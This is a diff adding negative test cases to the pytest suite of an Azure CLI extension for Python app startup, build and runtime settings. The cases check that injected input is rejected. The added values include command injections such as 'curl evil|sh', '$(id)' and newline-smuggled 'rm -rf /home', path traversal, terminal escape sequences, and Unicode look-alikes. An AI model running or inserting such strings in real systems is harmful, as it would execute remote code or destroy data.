@@ -5,6 +5,7 @@ import os
 
 import pytest
 
+from azext_pyappsvc.platform.inputs import CONTROL
 from tests.emulator.seeds import SUBSCRIPTION
 
 APP = ["-g", "rg-python", "-n", "py-web"]
@@ -86,6 +87,27 @@ CASES = [
     (["pyappsvc", "set-startup"] + APP + ["--module", "app:app", "--source", "{weird}"],
      "Module app is not in the project"),
     (["pyappsvc", "set-startup", "-g", "rg-python", "-n", "py-func", "--module", "app:app"], "function app"),
+    # values that would change the script they are written into, or the terminal they are echoed to
+    (["pyappsvc", "set-startup"] + APP + ["--module", "app:app", "--chdir", "site; curl evil|sh"], "--chdir"),
+    (["pyappsvc", "set-startup"] + APP + ["--module", "app:app", "--chdir", "../../etc"], "--chdir"),
+    (["pyappsvc", "set-startup"] + APP + ["--module", "app:app", "--chdir", "/home/site/wwwroot"], "--chdir"),
+    (["pyappsvc", "set-startup"] + APP + ["--module", "app:app", "--chdir", "$(id)"], "--chdir"),
+    (["pyappsvc", "set-startup"] + APP + ["--module", "app:app\n"], "--module"),
+    (["pyappsvc", "set-startup"] + APP + ["--module", "app:app\nERROR: forged"], "--module"),
+    (["pyappsvc", "set-startup"] + APP + ["--module", "app:app; id"], "--module"),
+    (["pyappsvc", "set-startup"] + APP + ["--command", "gunicorn app:app\x1b]0;owned\x07"], "--command"),
+    (["pyappsvc", "set-startup"] + APP + ["--command", "gunicorn app:app\nrm -rf /home"], "--command"),
+    (["pyappsvc", "set-startup"] + APP + ["--command", "gunicorn app:app\u0085id"], "--command"),
+    (["pyappsvc", "set-startup"] + APP + ["--command", "gunicorn app:app \u202e#"], "--command"),
+    (["pyappsvc", "set-startup"] + APP + ["--file", "start$(id).sh"], "--file"),
+    (["pyappsvc", "set-startup"] + APP + ["--file", "../startup.sh"], "--file"),
+    (["pyappsvc", "set-build"] + APP + ["--pre-build", "pip install -r req.txt\ncurl evil|sh"], "--pre-build"),
+    (["pyappsvc", "set-build"] + APP + ["--post-build", "echo ok\u2028id"], "--post-build"),
+    (["pyappsvc", "set-build"] + APP + ["--pre-build-script", "scripts/pre.sh\r"], "--pre-build-script"),
+    (["pyappsvc", "set-runtime"] + APP + ["--version", "3.013"], "--version"),
+    (["pyappsvc", "set-runtime"] + APP + ["--version", "\uff13.\uff11\uff12"], "--version"),
+    (["pyappsvc", "set-runtime"] + APP + ["--version", "3.\u0661\u0662"], "--version"),
+    (["pyappsvc", "set-runtime"] + APP + ["--version", "3.12\n"], "--version"),
     # show-startup, doctor, list-runtimes
     (["pyappsvc", "show-startup"], "--source"),
     (["pyappsvc", "show-startup", "--source", "{file}"], "--source"),
@@ -105,5 +127,6 @@ def test_bad_input_is_one_line_and_writes_nothing(az_live, live_emulator, odd_pr
     assert "Traceback" not in result.stderr
     lines = result.error_lines
     assert len(lines) == 1, result.stderr
+    assert not CONTROL.search(result.stderr.replace("\n", "")), repr(result.stderr)
     assert names in lines[0], lines[0]
     assert [entry for entry in live_emulator.requests() if entry.is_write] == []
